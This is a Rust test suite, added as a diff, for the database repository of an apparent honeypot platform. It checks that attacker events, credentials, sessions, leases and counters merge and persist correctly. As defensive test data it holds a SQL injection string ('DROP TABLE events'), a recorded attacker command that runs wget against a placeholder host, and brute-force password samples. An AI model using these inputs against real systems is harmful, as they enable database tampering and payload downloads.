@@ -1,0 +1,786 @@
+//! The repository suite: every test runs on SQLite and on MariaDB (see `common`).
+mod common;
+
+use std::{
+    net::{IpAddr, Ipv4Addr, Ipv6Addr},
+    time::Duration,
+};
+
+use common::{Backend, TestDb};
+use decnet_core::{
+    model::*,
+    repo::{CounterMode, DbConfig, LeaseHolder, RepoError, Repository, Write},
+};
+
+const T0: i64 = 1_795_730_640_123_456_789;
+const SEC: i64 = 1_000_000_000;
+
+fn ip(n: u8) -> IpAddr {
+    IpAddr::V4(Ipv4Addr::new(203, 0, 113, n))
+}
+
+fn flow(i: u32) -> FlowRecord {
+    FlowRecord {
+        bridge: "br0".into(),
+        port: "veth0".into(),
+        src_ip: IpAddr::V4(Ipv4Addr::from(0x0a00_0000 + i)),
+        dst_ip: IpAddr::V4(Ipv4Addr::new(192, 168, 1, 1)),
+        src_port: (i % 60_000) as u16 + 1024,
+        dst_port: 443,
+        proto: 6,
+        vlan: 0,
+        packets: 1,
+        bytes: 60,
+        tcp_flags: 0x02,
+        first_seen_ns: T0 + i64::from(i),
+        last_seen_ns: T0 + i64::from(i),
+        ended: false,
+    }
+}
+
+fn event(i: u32, attacker: IpAddr) -> NewEvent {
+    let raw = format!(
+        "<134>1 2026-05-02T06:00:{:02}.{i:06}+00:00 web-01 ssh - auth_attempt [relay@55555 principal=\"root\" src_ip=\"{attacker}\"]",
+        i % 60
+    );
+    NewEvent {
+        ts_ns: T0 + i64::from(i) * SEC,
+        decky: format!("decky-{}", i % 3),
+        service: "ssh".into(),
+        event_type: "auth_attempt".into(),
+        attacker_ip: Some(attacker),
+        attacker_port: Some(40_000 + (i % 1000) as u16),
+        fields: format!("{{\"principal\":\"root\",\"n\":{i}}}"),
+        raw: raw.into_bytes(),
+        dedup_key: None,
+    }
+}
+
+async fn flows_merge_and_never_shrink(b: Backend) {
+    let db = TestDb::new(b, "flows").await;
+    let repo = db.open().await;
+    let start = flow(1);
+    let mut last = start.clone();
+    last.port = "veth7".into();
+    last.packets = 42;
+    last.bytes = 9_000;
+    last.tcp_flags = 0x11;
+    last.last_seen_ns += 5 * SEC;
+    last.ended = true;
+    repo.upsert_flows(std::slice::from_ref(&start))
+        .await
+        .unwrap();
+    repo.upsert_flows(std::slice::from_ref(&last))
+        .await
+        .unwrap();
+    // A stale export after the final one changes nothing.
+    repo.upsert_flows(std::slice::from_ref(&start))
+        .await
+        .unwrap();
+    let rows = repo.list_flows().await.unwrap();
+    assert_eq!(rows.len(), 1);
+    let r = &rows[0];
+    assert_eq!(
+        (r.packets, r.bytes, r.tcp_flags, r.ended),
+        (42, 9_000, 0x13, true)
+    );
+    assert_eq!(
+        (r.first_seen_ns, r.last_seen_ns),
+        (start.first_seen_ns, last.last_seen_ns)
+    );
+    assert_eq!(r.port, "veth0", "the port of the first export stays");
+
+    // 10k rows in one call, IPv6 and extremes round-trip.
+    let many: Vec<FlowRecord> = (0..10_000).map(flow).collect();
+    repo.upsert_flows(&many).await.unwrap();
+    let mut v6 = flow(99_999);
+    v6.src_ip = IpAddr::V6(Ipv6Addr::new(0xfd00, 0xdec, 0, 0, 0, 0, 0, 1));
+    v6.packets = u64::MAX >> 1;
+    v6.src_port = u16::MAX;
+    repo.upsert_flows(std::slice::from_ref(&v6)).await.unwrap();
+    assert_eq!(repo.count_flows().await.unwrap(), 10_001);
+    let back = repo.list_flows().await.unwrap();
+    assert!(back.contains(&v6));
+    repo.close().await;
+    db.cleanup().await;
+}
+
+async fn events_are_idempotent_and_stored_exactly(b: Backend) {
+    let db = TestDb::new(b, "events").await;
+    let repo = db.open().await;
+    let batch: Vec<NewEvent> = (0..500).map(|i| event(i, ip(1))).collect();
+    assert_eq!(repo.insert_events(&batch).await.unwrap(), 500);
+    // Re-ingest, overlapping: only the new ones count.
+    let more: Vec<NewEvent> = (250..750).map(|i| event(i, ip(1))).collect();
+    assert_eq!(repo.insert_events(&more).await.unwrap(), 250);
+    assert_eq!(repo.count_events().await.unwrap(), 750);
+
+    // Hostile bytes: NUL, invalid UTF-8, quotes, an injection attempt, a 1 MiB line.
+    let mut odd = event(10_000, ip(2));
+    odd.decky = "d'; DROP TABLE events; --".into();
+    odd.fields = "{\"cmd\":\"echo \\\"x\\\" \\u0000 ]\"}".into();
+    odd.raw = b"a\0b\xff\xfe'\"\\]\n".to_vec();
+    let mut huge = event(10_001, ip(2));
+    huge.raw = vec![b'x'; 1 << 20];
+    huge.event_type = "t".repeat(500);
+    assert_eq!(
+        repo.insert_events(&[odd.clone(), huge.clone()])
+            .await
+            .unwrap(),
+        2
+    );
+    let all = repo.events_after(0, 10_000).await.unwrap();
+    assert_eq!(all.len(), 752);
+    let o = all
+        .iter()
+        .find(|e| e.attacker_ip == Some(ip(2)) && e.raw.len() < 100)
+        .unwrap();
+    assert_eq!(o.decky, odd.decky);
+    assert_eq!(o.fields, odd.fields);
+    assert_eq!(o.raw, odd.raw, "bytes come back exactly");
+    let h = all
+        .iter()
+        .find(|e| e.raw.len() > 100 && e.attacker_ip == Some(ip(2)))
+        .unwrap();
+    assert_eq!(
+        h.raw.len(),
+        decnet_core::repo::limits::LONG,
+        "oversized raw line is bounded"
+    );
+    assert!(h.event_type.len() <= decnet_core::repo::limits::NAME);
+    assert!(h.event_type.ends_with(decnet_core::repo::limits::CUT));
+    // Keyset pagination.
+    let page = repo.events_after(all[99].id, 10).await.unwrap();
+    assert_eq!(page.first().map(|e| e.id), Some(all[100].id));
+    assert_eq!(page.len(), 10);
+    repo.close().await;
+    db.cleanup().await;
+}
+
+/// What a worker does with one batch of input: store the events, merge the attacker, record
+/// its touches and move its cursor, all in one transaction.
+async fn process(repo: &Repository, input: &[NewEvent], cursor_at: i64, commit: bool) {
+    let mut tx = repo.begin().await.unwrap();
+    tx.insert_events(input).await.unwrap();
+    let first = input.iter().map(|e| e.ts_ns).min().unwrap();
+    let last = input.iter().map(|e| e.ts_ns).max().unwrap();
+    let attacker = input[0].attacker_ip.unwrap();
+    tx.upsert_attackers(&[AttackerUpdate {
+        ip: attacker,
+        first_seen_ns: first,
+        last_seen_ns: last,
+        event_count: 0,
+        session_count: 0,
+        credential_count: 0,
+        flow_count: 0,
+    }])
+    .await
+    .unwrap();
+    let touches: Vec<Touch> = input
+        .iter()
+        .map(|e| Touch {
+            attacker_ip: attacker,
+            decky: e.decky.clone(),
+            service: e.service.clone(),
+            first_seen_ns: e.ts_ns,
+            last_seen_ns: e.ts_ns,
+        })
+        .collect();
+    tx.touch(&touches).await.unwrap();
+    tx.refresh_attacker_counts(&[attacker]).await.unwrap();
+    tx.set_cursor(
+        "collector",
+        "h1",
+        "input",
+        cursor_at,
+        &format!("offset={cursor_at}"),
+    )
+    .await
+    .unwrap();
+    if commit {
+        tx.commit().await.unwrap();
+    } else {
+        drop(tx); // the crash: the connection goes away before COMMIT
+    }
+}
+
+async fn snapshot(repo: &Repository) -> String {
+    let mut events = repo.events_after(0, 100_000).await.unwrap();
+    for e in &mut events {
+        e.id = 0; // surrogate ids may differ (MariaDB does not give back rolled-back ids)
+    }
+    let mut a = repo.attacker(ip(7)).await.unwrap();
+    if let Some(a) = a.as_mut() {
+        a.id = 0;
+    }
+    let path = repo.traversal(ip(7)).await.unwrap();
+    let cur = repo.cursor("collector", "h1", "input").await.unwrap();
+    format!("{events:?}\n{a:?}\n{path:?}\n{cur:?}")
+}
+
+async fn crash_then_replay_equals_a_clean_pass(b: Backend) {
+    let input: Vec<NewEvent> = (0..300).map(|i| event(i, ip(7))).collect();
+    let chunks: Vec<&[NewEvent]> = input.chunks(100).collect();
+
+    let clean = TestDb::new(b, "clean").await;
+    let repo = clean.open().await;
+    for (n, c) in chunks.iter().enumerate() {
+        process(&repo, c, (n as i64 + 1) * 100, true).await;
+    }
+    let want = snapshot(&repo).await;
+    repo.close().await;
+
+    let crashed = TestDb::new(b, "crash").await;
+    let repo = crashed.open().await;
+    process(&repo, chunks[0], 100, true).await;
+    process(&repo, chunks[1], 200, false).await; // crash mid-way
+    // Restart: resume from the cursor; the first chunk is replayed too (at-least-once input).
+    let resume = repo
+        .cursor("collector", "h1", "input")
+        .await
+        .unwrap()
+        .unwrap()
+        .position;
+    assert_eq!(resume, 100, "the uncommitted batch did not move the cursor");
+    process(&repo, chunks[0], 100, true).await; // duplicate delivery
+    for (n, c) in chunks.iter().enumerate().skip((resume / 100) as usize) {
+        process(&repo, c, (n as i64 + 1) * 100, true).await;
+    }
+    let got = snapshot(&repo).await;
+    assert_eq!(
+        got, want,
+        "crash + replay must equal one clean pass, row for row"
+    );
+    let a = repo.attacker(ip(7)).await.unwrap().unwrap();
+    assert_eq!(a.event_count, 300);
+    assert_eq!(a.first_seen_ns, T0);
+    repo.close().await;
+    clean.cleanup().await;
+    crashed.cleanup().await;
+}
+
+async fn attackers_merge_never_shrinks(b: Backend) {
+    let db = TestDb::new(b, "attackers").await;
+    let repo = db.open().await;
+    let up = |first, last, events| AttackerUpdate {
+        ip: ip(9),
+        first_seen_ns: first,
+        last_seen_ns: last,
+        event_count: events,
+        session_count: 1,
+        credential_count: 2,
+        flow_count: 3,
+    };
+    repo.upsert_attackers(&[up(T0 + 10, T0 + 20, 50)])
+        .await
+        .unwrap();
+    // A worker restarting with empty memory reports smaller numbers: nothing shrinks.
+    repo.upsert_attackers(&[up(T0 + 15, T0 + 16, 5)])
+        .await
+        .unwrap();
+    repo.upsert_attackers(&[up(T0 + 5, T0 + 30, 60)])
+        .await
+        .unwrap();
+    let a = repo.attacker(ip(9)).await.unwrap().unwrap();
+    assert_eq!(
+        (a.first_seen_ns, a.last_seen_ns, a.event_count),
+        (T0 + 5, T0 + 30, 60)
+    );
+    assert_eq!(
+        (a.session_count, a.credential_count, a.flow_count),
+        (1, 2, 3)
+    );
+
+    // Touches form the traversal path in first_seen order.
+    let t = |decky: &str, s| Touch {
+        attacker_ip: ip(9),
+        decky: decky.into(),
+        service: "ssh".into(),
+        first_seen_ns: T0 + s * SEC,
+        last_seen_ns: T0 + s * SEC,
+    };
+    let mut tx = repo.begin().await.unwrap();
+    tx.touch(&[t("c", 30), t("a", 10), t("b", 20), t("a", 40)])
+        .await
+        .unwrap();
+    tx.commit().await.unwrap();
+    let path: Vec<String> = repo
+        .traversal(ip(9))
+        .await
+        .unwrap()
+        .into_iter()
+        .map(|t| t.decky)
+        .collect();
+    assert_eq!(path, ["a", "b", "c"]);
+    assert_eq!(
+        repo.traversal(ip(9)).await.unwrap()[0].last_seen_ns,
+        T0 + 40 * SEC
+    );
+
+    // Profiles: an older-evidence profile never replaces a newer one.
+    let prof = |score, until| AttackerProfile {
+        attacker_ip: ip(9),
+        behaviour: "brute_force".into(),
+        score,
+        factors: vec![ScoreFactor {
+            factor: "touched 3 deckies".into(),
+            weight: 15,
+        }],
+        tools: vec!["hydra".into()],
+        techniques: vec!["T1110".into()],
+        evidence_until_ns: until,
+        computed_at_ns: until + 1,
+    };
+    let mut tx = repo.begin().await.unwrap();
+    tx.upsert_profiles(&[prof(70, T0 + 100)]).await.unwrap();
+    tx.upsert_profiles(&[prof(10, T0 + 50)]).await.unwrap();
+    tx.commit().await.unwrap();
+    assert_eq!(
+        repo.profile(ip(9)).await.unwrap().unwrap(),
+        prof(70, T0 + 100)
+    );
+    let mut tx = repo.begin().await.unwrap();
+    tx.upsert_profiles(&[prof(90, T0 + 200)]).await.unwrap();
+    tx.commit().await.unwrap();
+    assert_eq!(repo.profile(ip(9)).await.unwrap().unwrap().score, 90);
+    repo.close().await;
+    db.cleanup().await;
+}
+
+async fn intel_natural_keys_merge(b: Backend) {
+    let db = TestDb::new(b, "intel").await;
+    let repo = db.open().await;
+    let cred = |principal: &[u8], secret: &[u8], attempts, s| CredentialAttempt {
+        attacker_ip: ip(3),
+        decky: "web-01".into(),
+        service: "ssh".into(),
+        principal: principal.to_vec(),
+        secret_kind: "password".into(),
+        secret: secret.to_vec(),
+        attempts,
+        first_seen_ns: T0 + s,
+        last_seen_ns: T0 + s,
+    };
+    let mut tx = repo.begin().await.unwrap();
+    tx.upsert_credentials(&[
+        cred(b"root", b"123456", 1, 0),
+        cred(b"root", b"123456", 3, 5),
+        cred(b"root", b"123456", 2, 2),
+        cred(b"ro\0ot\xff", b"pa'ss\"--", 1, 1),
+    ])
+    .await
+    .unwrap();
+    tx.commit().await.unwrap();
+    let creds = repo.credentials(Some(ip(3))).await.unwrap();
+    assert_eq!(creds.len(), 2);
+    let c = creds.iter().find(|c| c.principal == b"root").unwrap();
+    assert_eq!(
+        (c.attempts, c.first_seen_ns, c.last_seen_ns),
+        (3, T0, T0 + 5)
+    );
+    assert_eq!(c.secret_printable, "123456");
+    let odd = creds.iter().find(|c| c.principal != b"root").unwrap();
+    assert_eq!(odd.principal, b"ro\0ot\xff");
+    assert_eq!(odd.secret_printable, "pa'ss\"--");
+
+    let fp = |count, s| Fingerprint {
+        kind: "ja4".into(),
+        value: "t13d1516h2_8daaf6152771_02713d6af862".into(),
+        attacker_ip: ip(3),
+        first_seen_ns: T0 + s,
+        last_seen_ns: T0 + s,
+        count,
+    };
+    let mut tx = repo.begin().await.unwrap();
+    tx.upsert_fingerprints(&[fp(2, 10), fp(5, 20), fp(1, 0)])
+        .await
+        .unwrap();
+    tx.commit().await.unwrap();
+    let fps = repo.fingerprints(ip(3)).await.unwrap();
+    assert_eq!(fps.len(), 1);
+    assert_eq!(
+        (fps[0].count, fps[0].first_seen_ns, fps[0].last_seen_ns),
+        (5, T0, T0 + 20)
+    );
+
+    let session = |events, cmds: &[&str], end| Session {
+        attacker_ip: ip(3),
+        decky: "web-01".into(),
+        service: "ssh".into(),
+        started_ns: T0,
+        ended_ns: T0 + end,
+        event_count: events,
+        bytes: 100 * events,
+        commands: cmds.iter().map(|s| s.to_string()).collect(),
+        closed: false,
+    };
+    let mut tx = repo.begin().await.unwrap();
+    tx.upsert_sessions(&[session(3, &["id", "uname -a"], 30)])
+        .await
+        .unwrap();
+    // A replay with fewer events (stale) must not replace the command list or shrink counts.
+    tx.upsert_sessions(&[session(1, &["id"], 10)])
+        .await
+        .unwrap();
+    tx.commit().await.unwrap();
+    let s = &repo.sessions(ip(3)).await.unwrap()[0];
+    assert_eq!((s.event_count, s.bytes, s.ended_ns), (3, 300, T0 + 30));
+    assert_eq!(s.commands, ["id", "uname -a"]);
+    let mut tx = repo.begin().await.unwrap();
+    tx.upsert_sessions(&[session(
+        4,
+        &["id", "uname -a", "wget http://x/<script>"],
+        40,
+    )])
+    .await
+    .unwrap();
+    tx.commit().await.unwrap();
+    let s = &repo.sessions(ip(3)).await.unwrap()[0];
+    assert_eq!(s.commands.len(), 3);
+    assert_eq!(repo.sessions(ip(3)).await.unwrap().len(), 1);
+    repo.close().await;
+    db.cleanup().await;
+}
+
+async fn fleet_users_cursors_counters(b: Backend) {
+    let db = TestDb::new(b, "fleet").await;
+    let repo = db.open().await;
+    let decky = |services: Vec<DeckyService>| Decky {
+        name: "web-01".into(),
+        ip: ip(50),
+        hostname: "web-01.corp".into(),
+        os_family: "linux".into(),
+        archetype: "web-server".into(),
+        persona: "{\"server\":\"nginx/1.18.0\"}".into(),
+        status: "up".into(),
+        services,
+    };
+    let svc = |s: &str, port| DeckyService {
+        service: s.into(),
+        port,
+        settings: "{}".into(),
+    };
+    let mut tx = repo.begin().await.unwrap();
+    tx.upsert_deckies(&[decky(vec![svc("ssh", 22), svc("http", 80)])])
+        .await
+        .unwrap();
+    tx.upsert_deckies(&[decky(vec![svc("https", 443)])])
+        .await
+        .unwrap();
+    assert!(tx.set_decky_status("web-01", "down").await.unwrap());
+    tx.insert_probe_results(&[ProbeResult {
+        ts_ns: T0,
+        decky: "web-01".into(),
+        service: "https".into(),
+        check: "banner".into(),
+        ok: true,
+        detail: "nginx".into(),
+    }])
+    .await
+    .unwrap();
+    let m = Mutation {
+        ts_ns: T0,
+        decky: "web-01".into(),
+        kind: "rotate_banner".into(),
+        detail: "{}".into(),
+        status: "pending".into(),
+    };
+    tx.record_mutations(&[m.clone()]).await.unwrap();
+    tx.record_mutations(&[Mutation {
+        status: "applied".into(),
+        ..m.clone()
+    }])
+    .await
+    .unwrap();
+    tx.commit().await.unwrap();
+    let ds = repo.deckies().await.unwrap();
+    assert_eq!(ds.len(), 1);
+    assert_eq!(
+        ds[0].services,
+        vec![svc("https", 443)],
+        "re-recording replaces the service set"
+    );
+    assert_eq!(ds[0].status, "down");
+    assert_eq!(repo.probe_results("web-01").await.unwrap().len(), 1);
+    let ms = repo.mutations("web-01").await.unwrap();
+    assert_eq!((ms.len(), ms[0].status.as_str()), (1, "applied"));
+
+    assert!(
+        repo.create_user(
+            "admin",
+            "$argon2id$v=19$m=19456,t=2,p=1$c2FsdA$aGFzaA",
+            Role::Admin,
+            true
+        )
+        .await
+        .unwrap()
+    );
+    assert!(
+        !repo
+            .create_user("admin", "x", Role::Viewer, false)
+            .await
+            .unwrap(),
+        "usernames are unique"
+    );
+    assert!(
+        repo.set_password("admin", "$argon2id$new", false)
+            .await
+            .unwrap()
+    );
+    assert!(repo.set_role("admin", Role::Viewer).await.unwrap());
+    let u = repo.user("admin").await.unwrap().unwrap();
+    assert_eq!(
+        (u.password_hash.as_str(), u.role, u.must_change_password),
+        ("$argon2id$new", Role::Viewer, false)
+    );
+    assert!(repo.user("nobody").await.unwrap().is_none());
+
+    // Cursors only move forward.
+    let mut tx = repo.begin().await.unwrap();
+    tx.set_cursor("correlator", "h1", "events", 50, "a")
+        .await
+        .unwrap();
+    tx.set_cursor("correlator", "h1", "events", 20, "stale")
+        .await
+        .unwrap();
+    tx.commit().await.unwrap();
+    let c = repo
+        .cursor("correlator", "h1", "events")
+        .await
+        .unwrap()
+        .unwrap();
+    assert_eq!((c.position, c.state.as_str()), (50, "a"));
+
+    repo.record_counters(
+        "collector",
+        "h1",
+        &[("received", 5), ("queue_depth", 3)],
+        CounterMode::Add,
+    )
+    .await
+    .unwrap();
+    repo.record_counters("collector", "h1", &[("received", 7)], CounterMode::Add)
+        .await
+        .unwrap();
+    repo.record_counters("collector", "h1", &[("queue_depth", 1)], CounterMode::Set)
+        .await
+        .unwrap();
+    let counters = repo.counters().await.unwrap();
+    assert!(counters.contains(&("collector".into(), "h1".into(), "received".into(), 12)));
+    assert!(counters.contains(&("collector".into(), "h1".into(), "queue_depth".into(), 1)));
+    repo.close().await;
+    db.cleanup().await;
+}
+
+async fn leases_refuse_a_second_holder_and_expire(b: Backend) {
+    let db = TestDb::new(b, "leases").await;
+    let repo = db.open().await;
+    let holder = |h: &str, pid| LeaseHolder {
+        kind: "sniffer".into(),
+        host: "h1".into(),
+        holder: h.into(),
+        pid,
+    };
+    let (first, second) = (holder("h1:100:1", 100), holder("h1:200:2", 200));
+    let ttl = Duration::from_secs(2);
+    repo.acquire_lease(&first, ttl).await.unwrap();
+    repo.acquire_lease(&first, ttl)
+        .await
+        .expect("re-acquiring our own lease is fine");
+    let err = repo.acquire_lease(&second, ttl).await.unwrap_err();
+    let msg = err.to_string();
+    assert!(matches!(err, RepoError::LeaseHeld(_)));
+    assert!(
+        msg.contains("h1:100:1") && msg.contains("pid 100") && msg.contains("sniffer"),
+        "{msg}"
+    );
+    // Another kind on the same host, or the same kind on another host, is independent.
+    repo.acquire_lease(
+        &LeaseHolder {
+            kind: "profiler".into(),
+            ..second.clone()
+        },
+        ttl,
+    )
+    .await
+    .unwrap();
+    repo.acquire_lease(
+        &LeaseHolder {
+            host: "h2".into(),
+            ..second.clone()
+        },
+        ttl,
+    )
+    .await
+    .unwrap();
+
+    assert!(repo.heartbeat(&first).await.unwrap());
+    // The first holder dies: no heartbeats for longer than the ttl.
+    tokio::time::sleep(ttl + Duration::from_millis(300)).await;
+    let lease = repo
+        .acquire_lease(&second, ttl)
+        .await
+        .expect("an expired lease is taken over");
+    assert_eq!((lease.holder.as_str(), lease.pid), ("h1:200:2", 200));
+    assert!(
+        !repo.heartbeat(&first).await.unwrap(),
+        "the old holder learns it lost the lease"
+    );
+    assert!(!repo.release_lease(&first).await.unwrap());
+    assert!(repo.release_lease(&second).await.unwrap());
+    repo.acquire_lease(&first, ttl)
+        .await
+        .expect("a released lease is free");
+
+    // The keeper heartbeats in the background, so the lease does not expire while held.
+    let mut keeper = repo
+        .hold_lease(holder("h1:300:3", 300), Duration::from_millis(900))
+        .await
+        .unwrap_err();
+    assert!(matches!(keeper, RepoError::LeaseHeld(_)));
+    repo.release_lease(&first).await.unwrap();
+    let k = repo
+        .hold_lease(holder("h1:300:3", 300), Duration::from_millis(900))
+        .await
+        .unwrap();
+    tokio::time::sleep(Duration::from_millis(2000)).await;
+    keeper = repo
+        .acquire_lease(&second, Duration::from_millis(900))
+        .await
+        .unwrap_err();
+    assert!(keeper.to_string().contains("h1:300:3"));
+    k.release().await.unwrap();
+    assert!(
+        repo.leases()
+            .await
+            .unwrap()
+            .iter()
+            .all(|l| !(l.kind == "sniffer" && l.host == "h1"))
+    );
+    repo.close().await;
+    db.cleanup().await;
+}
+
+async fn concurrent_writers_lose_nothing(b: Backend) {
+    let db = TestDb::new(b, "concurrent").await;
+    // Several repositories (pools) on one database, as separate workers would have.
+    let repos: Vec<Repository> = futures_join(db.config(), 4).await;
+    let mut tasks = Vec::new();
+    for (w, repo) in repos.iter().enumerate() {
+        let repo = repo.clone();
+        tasks.push(tokio::spawn(async move {
+            for round in 0..25u32 {
+                // Overlapping facts: every worker also re-inserts the others' events.
+                let evs: Vec<NewEvent> = (0..40).map(|i| event(round * 40 + i, ip(20))).collect();
+                let mine = format!("w{w}");
+                let counters = [("batches", 1), (mine.as_str(), 1)];
+                repo.write(&[
+                    Write::Events(&evs),
+                    Write::Counters {
+                        worker: "stress",
+                        host: "h1",
+                        values: &counters,
+                        mode: CounterMode::Add,
+                    },
+                ])
+                .await
+                .unwrap();
+            }
+        }));
+    }
+    for t in tasks {
+        t.await.expect("no worker failed (no lock errors)");
+    }
+    let repo = &repos[0];
+    assert_eq!(repo.count_events().await.unwrap(), 1000);
+    let counters = repo.counters().await.unwrap();
+    let get = |n: &str| counters.iter().find(|c| c.2 == n).map(|c| c.3);
+    assert_eq!(get("batches"), Some(100), "no lost updates");
+    for w in 0..4 {
+        assert_eq!(get(&format!("w{w}")), Some(25));
+    }
+    for r in &repos {
+        r.close().await;
+    }
+    db.cleanup().await;
+}
+
+/// Opens `n` repositories on the same fresh database at the same time: exactly one migrates,
+/// the others wait and find the schema in place.
+async fn futures_join(cfg: DbConfig, n: usize) -> Vec<Repository> {
+    let opens: Vec<_> = (0..n)
+        .map(|_| {
+            let cfg = cfg.clone();
+            tokio::spawn(async move { Repository::open(&cfg).await })
+        })
+        .collect();
+    let mut out = Vec::new();
+    for o in opens {
+        out.push(o.await.unwrap().expect("concurrent open and migrate"));
+    }
+    out
+}
+
+async fn simultaneous_starts_migrate_once(b: Backend) {
+    let db = TestDb::new(b, "migrate").await;
+    let repos = futures_join(db.config(), 6).await;
+    repos[0].upsert_flows(&[flow(1)]).await.unwrap();
+    assert_eq!(repos[5].count_flows().await.unwrap(), 1);
+    for r in &repos {
+        r.close().await;
+    }
+    // Reopening skips the applied migrations and keeps the data.
+    let again = db.open().await;
+    assert_eq!(again.count_flows().await.unwrap(), 1);
+    again.close().await;
+    db.cleanup().await;
+}
+
+both_backends!(
+    flows_merge_and_never_shrink,
+    events_are_idempotent_and_stored_exactly,
+    crash_then_replay_equals_a_clean_pass,
+    attackers_merge_never_shrinks,
+    intel_natural_keys_merge,
+    fleet_users_cursors_counters,
+    leases_refuse_a_second_holder_and_expire,
+    concurrent_writers_lose_nothing,
+    simultaneous_starts_migrate_once,
+);
+
+#[tokio::test]
+async fn bad_configuration_errors_name_the_variable() {
+    let e = DbConfig::new(Some("postgres"), None)
+        .unwrap_err()
+        .to_string();
+    assert!(
+        e.contains("DECNET_DB_TYPE") && e.contains("sqlite") && e.contains("mysql"),
+        "{e}"
+    );
+    let e = DbConfig::new(Some("mysql"), None).unwrap_err().to_string();
+    assert!(e.contains("DECNET_DB_URL"), "{e}");
+    let e = DbConfig::new(Some("mysql"), Some("sqlite://x.db"))
+        .unwrap_err()
+        .to_string();
+    assert!(
+        e.contains("DECNET_DB_URL") && e.contains("does not match"),
+        "{e}"
+    );
+    assert_eq!(DbConfig::new(None, None).unwrap().url, "sqlite://decnet.db");
+    let e = Repository::connect("mysql://decnet:secret@127.0.0.1:1/nope")
+        .await
+        .unwrap_err()
+        .to_string();
+    assert!(
+        e.contains("DECNET_DB_URL") && e.contains("***") && !e.contains("secret"),
+        "{e}"
+    );
+    let e = Repository::connect("sqlite:///nonexistent-dir/x/y.db")
+        .await
+        .unwrap_err()
+        .to_string();
+    assert!(e.contains("DECNET_DB_URL"), "{e}");
+    let mem = Repository::connect("sqlite::memory:").await.unwrap();
+    mem.upsert_flows(&[flow(1)]).await.unwrap();
+    assert_eq!(mem.count_flows().await.unwrap(), 1);
+}
